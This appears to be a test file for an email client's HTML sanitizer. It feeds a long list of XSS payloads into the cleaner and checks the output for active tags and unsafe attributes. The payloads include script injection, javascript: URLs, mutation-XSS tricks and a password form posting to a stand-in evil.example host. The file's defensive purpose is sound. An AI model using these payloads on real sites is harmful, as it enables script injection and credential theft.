import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { type CleanOptions, cleanHtml } from '#shared/adapters/html/clean-html.ts';

const blocked: CleanOptions = {
  urlOfContentId: (id) =>
    id === 'logo@shop.example' ? 'https://files.huiyin.example/01j' : undefined,
  showRemoteImages: false,
};
const clean = (html: string, options: Partial<CleanOptions> = {}) =>
  cleanHtml(html, { ...blocked, ...options });

/** Each would run a script, load something, cover the page or send a form in some browser or some cleaner. */
const ATTACKS = [
  '<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)"/>',
  '<img/src=x/onerror=alert(1)//',
  '<img src=`x`onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<svg onload=alert(1)></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate attributeName=href values=javascript:alert(1) /></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math href="javascript:alert(1)">x</math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
  '<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="https://evil.example"><input name=password><button>ok</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css"; body{display:none}</style>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" java\tscript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="\u200bjavascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/v1/tickets">x</a>',
  '<a href="https://bank.example@evil.example/">x</a>',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img src="/v1/session/end">',
  '<img srcset="https://evil.example/a.png 1x">',
  '<picture><source srcset="https://evil.example/a.png"></picture>',
  '<video poster="https://evil.example/a.png"><source src="https://evil.example/a.mp4"></video>',
  '<table background="https://evil.example/a.png"><tr><td>x</td></tr></table>',
  '<div style="background:url(https://evil.example/a.png)">x</div>',
  '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9">x</div>',
  '<div style="color:red;position:fixed">x</div>',
  '<div style="color:expression(alert(1))">x</div>',
  '<div id="app" class="console" name="csrf">x</div>',
  '<p title="x" onclick="alert(1)" autofocus onfocus=alert(1) tabindex=1>x</p>',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><x onclick=alert(1)>',
  '<a href="https://x.example" target="_self" rel="opener" ping="https://evil.example">x</a>',
  '"><img src=x onerror=alert(1)>',
  '<img alt="><script>alert(1)</script>" src="https://a.example/x.png">',
  '<img alt="&quot; onerror=&quot;alert(1)" src="https://a.example/x.png">',
  '<template><img src=x onerror=alert(1)></template>',
  '<details open ontoggle=alert(1)>x</details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<img data-cid="&quot; onerror=&quot;alert(1)">',
  '<img data-remote="javascript:alert(1)">',
];

const TAG = /<([a-z0-9]+)((?:\s+[a-z-]+(?:="[^"<>]*")?)*)\s*\/?>/g;
const HARMLESS = new Set(
  'href target rel src alt width height data-cid data-remote loading referrerpolicy style dir lang colspan rowspan align valign border cellpadding cellspacing start type'.split(
    ' ',
  ),
);

const ACTIVE =
  /^(?:script|style|iframe|object|embed|form|input|button|svg|math|base|meta|link|video|source)$/;

/** Attributes with an address or a style may hold these values only. */
const VALUES: Readonly<Record<string, RegExp>> = {
  href: /^(?:https?:\/\/|mailto:|tel:)/,
  src: /^https:\/\/files\.|^data:image\/(?!svg)/,
  style: /^color:[#a-z0-9(),.%]+$/,
};

const isDanger = (name: string, value: string): boolean =>
  !HARMLESS.has(name) || VALUES[name]?.test(value) === false;

const dangers = (html: string): readonly string[] => {
  const found: string[] = [];
  for (const [, tag = '', attributes = ''] of html.matchAll(TAG)) {
    if (ACTIVE.test(tag)) found.push(tag);
    for (const [, name = '', value = ''] of attributes.matchAll(/([a-z-]+)(?:="([^"]*)")?/g))
      if (isDanger(name, value)) found.push(`${name}=${value}`);
  }
  // What is left without its tags must hold no bracket: everything else has been escaped.
  const rest = html.replace(TAG, '').replace(/<\/[a-z0-9]+>/g, '');
  return rest.includes('<') ? [...found, rest] : found;
};

describe('the HTML of a stranger', () => {
  test.each(ATTACKS)('%s does nothing', (attack) => {
    for (const html of [attack, `<div>${attack}</div>`, `<p>您好 ${attack} Hello</p>`])
      expect(dangers(clean(html).html)).toEqual([]);
  });

  test('is clean after any mixture of them, and cleaning it again changes nothing', () => {
    const pieces = fc.constantFrom(
      ...ATTACKS,
      ...ATTACKS.map((attack) => attack.slice(0, attack.length >> 1)),
      '<p>',
      '<div>',
      '</div>',
      '<table>',
      '<td>',
      '<li>',
      '<b>',
      '</p>',
      '&lt;b&gt;',
      '&amp;lt;',
      '订单',
      '<img src="cid:logo@shop.example">',
      '<img src="https://a.example/1.png">',
      '<font color=red>',
      '<a href="https://a.example/?a=1&b=2">',
    );
    fc.assert(
      fc.property(fc.array(pieces, { maxLength: 12 }), fc.boolean(), (chosen, showRemoteImages) => {
        const once = clean(chosen.join(''), { showRemoteImages });
        expect(clean(once.html, { showRemoteImages })).toEqual(once);
        if (!showRemoteImages) expect(dangers(once.html)).toEqual([]);
      }),
      { numRuns: 300 },
    );
  });

  test('stays clean for any text at all', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 200 }), (text) => {
        const once = clean(text).html;
        expect(clean(once).html).toBe(once);
        expect(dangers(once)).toEqual([]);
      }),
    );
  });

  test('keeps what a person wrote and how', () => {
    expect(
      clean(
        '<p>您好，<b>订单</b> <span style="color: rgb(255, 0, 0); position:fixed">红色</span></p><ul><li>a</li></ul>',
      ).html,
    ).toBe(
      '<p>您好，<b>订单</b> <span style="color:rgb(255,0,0)">红色</span></p><ul><li>a</li></ul>',
    );
  });

  test('shows no word of what is no text', () => {
    for (const element of ['script', 'style', 'title', 'noscript', 'textarea', 'svg', 'template'])
      expect(clean(`<p>a</p><${element}>hidden</${element}>`).html).toBe('<p>a</p>');
  });

  test('a link that shows one name and leads to another leads nowhere', () => {
    expect(clean('<a href="https://bank.example@evil.example/">x</a>').html).toBe('<a>x</a>');
  });

  test('a link within a link is closed, as every browser reads it', () => {
    const once = clean('<a href="data:x">a<form><a href="https://a.example/">b</a>').html;
    expect(clean(once).html).toBe(once);
  });

  test('deep nesting and a flood of tags end', () => {
    expect(dangers(clean('<div>'.repeat(20_000)).html)).toEqual([]);
    expect(clean('<img src="https://a.example/1.png">'.repeat(2_000)).remoteImages).toHaveLength(1);
  });
});

describe('pictures', () => {
  test('of other servers are listed and not loaded until asked for', () => {
    const html = '<img src="https://a.example/1.png" alt="x"><img src="//b.example/2.png">';
    const found = clean(html);
    expect(found.remoteImages).toEqual(['https://a.example/1.png', 'https://b.example/2.png']);
    expect(found.html).not.toContain('src=');
    expect(clean(html, { showRemoteImages: true }).html).toContain(
      'src="https://a.example/1.png" loading="lazy" referrerpolicy="no-referrer"',
    );
  });

  test('that came with the mail are shown from our own store', () => {
    expect(clean('<img src="cid:logo@shop.example">').html).toContain(
      'src="https://files.huiyin.example/01j"',
    );
    expect(clean('<img src="cid:logo%40shop.example">').html).toContain('src=');
    expect(clean('<img src="cid:other@shop.example">').html).not.toContain('src=');
  });

  test('written into the mail are shown when they are pictures', () => {
    expect(clean('<img src="data:image/png;base64,iVBORw0KGgo=">').html).toContain(
      'data:image/png',
    );
    expect(clean('<img src="data:text/html;base64,iVBORw0KGgo=">').html).not.toContain('src');
  });
});

test.each([
  ['https://a.example/x?y=1', 'href="https://a.example/x?y=1"'],
  ['mailto:li@a.example', 'href="mailto:li@a.example"'],
  ['tel:+8613800000000', 'href="tel:+8613800000000"'],
])('a link to %s opens apart from the page', (href, kept) => {
  const { html } = clean(`<a href="${href}">x</a>`);
  expect(html).toContain(kept);
  expect(html).toContain('target="_blank" rel="noopener noreferrer nofollow"');
});
